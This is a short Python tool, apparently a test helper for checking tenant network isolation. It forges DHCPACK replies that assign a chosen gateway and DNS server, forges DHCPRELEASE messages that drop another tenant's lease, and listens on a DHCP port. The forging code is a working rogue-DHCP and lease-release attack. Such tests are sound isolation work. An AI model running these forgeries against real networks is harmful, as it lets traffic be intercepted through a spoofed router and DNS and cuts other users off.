# SPDX-License-Identifier: GPL-2.0-or-later
# dhcpforge.py — forged DHCP messages from an ordinary UDP socket (what a
# tenant can send without any capability), and a listener to see what
# arrives on a DHCP port.
#
#   dhcpforge.py ack MAC YIADDR ROUTER DST:PORT...
#       a DHCPACK (BOOTREPLY) for client MAC offering YIADDR/16 with
#       ROUTER as gateway and DNS, to each DST:PORT (broadcast allowed).
#       Prints "ack DST:PORT sent|ERRNAME" per destination.
#   dhcpforge.py release MAC CIADDR SERVER
#       a DHCPRELEASE of CIADDR for MAC, to SERVER:67 (another tenant's
#       lease, in her name). Prints "release sent|ERRNAME".
#   dhcpforge.py listen PORT READY OUT
#       UDP 0.0.0.0:PORT (SO_REUSEADDR, as udhcpc binds it); one line per
#       datagram in OUT: "op=N xid=XXXXXXXX from SOURCE".
import errno, os, socket, struct, sys

XID = 0x4e534e53


def mac_bytes(mac):
    return bytes(int(x, 16) for x in mac.split(":"))


def bootp(op, msgtype, mac, ciaddr="0.0.0.0", yiaddr="0.0.0.0", server="10.213.0.1", opts=b""):
    head = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", op, 1, 6, 0, XID, 0, 0x8000,
                       socket.inet_aton(ciaddr), socket.inet_aton(yiaddr),
                       socket.inet_aton(server), socket.inet_aton("0.0.0.0"),
                       mac_bytes(mac).ljust(16, b"\0"), b"", b"")
    o = bytes([53, 1, msgtype]) + bytes([54, 4]) + socket.inet_aton(server) + opts + b"\xff"
    return head + b"\x63\x82\x53\x63" + o


def send(payload, dst, port, label):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try:
        s.sendto(payload, (dst, port))
        print(label, "sent", flush=True)
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, str(e.errno)), flush=True)
    s.close()


def main():
    cmd = sys.argv[1]
    if cmd == "ack":
        mac, yiaddr, router = sys.argv[2:5]
        opts = (bytes([51, 4]) + struct.pack("!I", 86400) + bytes([1, 4]) + socket.inet_aton("255.255.0.0")
                + bytes([3, 4]) + socket.inet_aton(router) + bytes([6, 4]) + socket.inet_aton(router))
        pkt = bootp(2, 5, mac, yiaddr=yiaddr, opts=opts)
        for d in sys.argv[5:]:
            host, _, port = d.rpartition(":")
            send(pkt, host, int(port), "ack " + d)
    elif cmd == "release":
        mac, ciaddr, server = sys.argv[2:5]
        send(bootp(1, 7, mac, ciaddr=ciaddr, server=server), server, 67, "release")
    elif cmd == "listen":
        port, ready, path = int(sys.argv[2]), sys.argv[3], sys.argv[4]
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.bind(("0.0.0.0", port))
        open(ready, "w").close()
        with open(path, "a", buffering=1) as f:
            while True:
                data, peer = s.recvfrom(2048)
                if len(data) >= 8:
                    op, xid = data[0], struct.unpack("!I", data[4:8])[0]
                    f.write("op=%d xid=%08x from %s\n" % (op, xid, peer[0]))
                else:
                    f.write("short from %s\n" % peer[0])
    else:
        sys.exit("usage: dhcpforge.py ack|release|listen ...")


if __name__ == "__main__":
    main()
